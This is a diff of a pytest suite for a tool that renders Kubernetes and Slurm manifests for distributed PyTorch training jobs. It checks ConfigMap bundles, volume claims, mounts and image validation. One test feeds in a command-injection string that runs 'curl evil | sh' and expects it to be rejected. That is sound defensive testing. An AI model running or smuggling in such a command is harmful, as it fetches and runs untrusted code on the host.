@@ -16,9 +16,10 @@ from pathlib import Path
 import pytest
 import yaml
 
-from executor.launch.bundle import build_bundle, bundle_files, bundle_name, write_bundle
+from executor.launch.bundle import DEFAULT_IMAGE, build_bundle, bundle_files, bundle_name, write_bundle
 from executor.launch.quoting import UnsafeValueError, dns_label
 from planner.plan import Plan
+from tests.executor.launch_lint import documents
 from tests.executor.plan_factory import debug_plan
 
 HOSTILE_NAMES = [
@@ -86,22 +87,47 @@ def bash_syntax_ok(path: Path) -> None:
 
 
 def check_manifests(directory: Path, plan: Plan) -> None:
-    trainjob = yaml.safe_load((directory / "k8s.yaml").read_text())
-    pytorchjob = yaml.safe_load((directory / "k8s-pytorchjob.yaml").read_text())
-    assert trainjob["kind"] == "TrainJob" and trainjob["apiVersion"] == "trainer.kubeflow.org/v1alpha1"
-    assert pytorchjob["kind"] == "PyTorchJob"
+    trainjob_docs = documents((directory / "k8s.yaml").read_text())
+    pytorchjob_docs = documents((directory / "k8s-pytorchjob.yaml").read_text())
+    assert set(trainjob_docs) == {"PersistentVolumeClaim", "TrainJob", "ConfigMap"}
+    assert set(pytorchjob_docs) == {"PersistentVolumeClaim", "PyTorchJob", "ConfigMap"}
+    trainjob, pytorchjob = trainjob_docs["TrainJob"], pytorchjob_docs["PyTorchJob"]
+    assert trainjob["apiVersion"] == "trainer.kubeflow.org/v1alpha1"
+    assert pytorchjob["apiVersion"] == "kubeflow.org/v1"
     for doc in (trainjob, pytorchjob):
         name = doc["metadata"]["name"]
         assert re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", name) and len(name) <= 63
     trainer = trainjob["spec"]["trainer"]
     assert trainer["numNodes"] == plan.cluster.num_nodes
     assert trainer["command"][:2] == ["bash", "-c"] and trainer["args"] == ["launch"]
+    assert trainer["image"] == DEFAULT_IMAGE and not trainer["image"].endswith(":latest")
     env = {e["name"]: e["value"] for e in trainer["env"]}
-    assert env["NNODES"] == str(plan.cluster.num_nodes)
-    # The embedded payload is the bundle's own launch.sh + plan + runtime.
-    with tarfile.open(fileobj=io.BytesIO(base64.b64decode(env["FSDP_BUNDLE_B64"])), mode="r:gz") as payload:
-        assert {"launch.sh", "plan.json", "executor/runtime/train.py"} <= set(payload.getnames())
-        assert json.load(payload.extractfile("plan.json"))["plan_hash"] == plan.plan_hash
+    assert env["NNODES"] == str(plan.cluster.num_nodes) and env["CHECKPOINT_DIR"] == "/checkpoints"
+    assert env["PYTORCH_CUDA_ALLOC_CONF"] == "expandable_segments:True"
+    assert "FSDP_BUNDLE_B64" not in env, "the bundle travels in a ConfigMap, not in the environment"
+    # The ConfigMap carries the bundle's own launch.sh + plan + runtime, which every pod unpacks.
+    for docs in (trainjob_docs, pytorchjob_docs):
+        configmap = docs["ConfigMap"]
+        payload = base64.b64decode(configmap["binaryData"]["bundle.tar.gz"])
+        with tarfile.open(fileobj=io.BytesIO(payload), mode="r:gz") as archive:
+            assert {"launch.sh", "plan.json", "executor/runtime/train.py"} <= set(archive.getnames())
+            assert json.load(archive.extractfile("plan.json"))["plan_hash"] == plan.plan_hash
+        claim = docs["PersistentVolumeClaim"]
+        shared = plan.cluster.num_nodes > 1
+        assert claim["spec"]["accessModes"] == ["ReadWriteMany" if shared else "ReadWriteOnce"]
+    (patch,) = trainjob["spec"]["runtimePatches"]
+    (job,) = patch["trainingRuntimeSpec"]["template"]["spec"]["replicatedJobs"]
+    pod = job["template"]["spec"]["template"]
+    pods = [pod["spec"]] + [r["template"]["spec"] for r in pytorchjob["spec"]["pytorchReplicaSpecs"].values()]
+    for spec in pods:
+        volumes = {v["name"]: v for v in spec["volumes"]}
+        assert volumes["dshm"]["emptyDir"]["medium"] == "Memory" and volumes["dshm"]["emptyDir"]["sizeLimit"]
+        assert volumes["bundle"]["configMap"]["name"] == trainjob_docs["ConfigMap"]["metadata"]["name"]
+        claim_name = trainjob_docs["PersistentVolumeClaim"]["metadata"]["name"]
+        assert volumes["checkpoints"]["persistentVolumeClaim"]["claimName"] == claim_name
+        mounts = {m["name"]: m["mountPath"] for m in spec["containers"][0]["volumeMounts"]}
+        assert mounts == {"bundle": "/etc/fsdp-bundle", "dshm": "/dev/shm", "checkpoints": "/checkpoints"}
+        assert spec["terminationGracePeriodSeconds"] == 300
     replicas = pytorchjob["spec"]["pytorchReplicaSpecs"]
     assert replicas["Master"]["replicas"] == 1
     assert replicas.get("Worker", {"replicas": 0})["replicas"] == plan.cluster.num_nodes - 1
@@ -129,7 +155,7 @@ def test_hostile_plan_names_render_harmless_files(name: str, tmp_path: Path) -> 
     # The name reaches no YAML value except as inert comment text.
     for manifest in ("k8s.yaml", "k8s-pytorchjob.yaml"):
         docs = list(yaml.safe_load_all((directory / manifest).read_text()))
-        assert len(docs) == 1
+        assert len(docs) == 3 and "Secret" not in {d["kind"] for d in docs}
 
 
 def test_hostile_name_bundle_executes_nothing(tmp_path: Path) -> None:
@@ -232,7 +258,7 @@ def test_cpu_plans_request_no_gpus_and_gpu_plans_do() -> None:
         if f.path.endswith((".sbatch", ".yaml"))
     }
     assert "#SBATCH --gpus-per-node=8" in gpu["slurm.sbatch"] and "#SBATCH --nodes=4" in gpu["slurm.sbatch"]
-    trainer = yaml.safe_load(gpu["k8s.yaml"])["spec"]["trainer"]
+    trainer = documents(gpu["k8s.yaml"])["TrainJob"]["spec"]["trainer"]
     assert trainer["resourcesPerNode"]["limits"]["nvidia.com/gpu"] == 8 and trainer["numNodes"] == 4
 
 
@@ -241,7 +267,7 @@ def test_image_and_names_are_validated() -> None:
         build_bundle(make_plan(), image='pytorch"; curl evil | sh; "')
     image = "ghcr.io/org/train:2.13@sha256:abc"
     files = {f.path: f.data for f in bundle_files(make_plan(), target="k8s", image=image)}
-    assert yaml.safe_load(files["k8s.yaml"])["spec"]["trainer"]["image"] == image
+    assert documents(files["k8s.yaml"].decode())["TrainJob"]["spec"]["trainer"]["image"] == image
     label = dns_label("--Über Modell!!--" * 10, suffix="0123abcd")
     assert (
         re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", label)
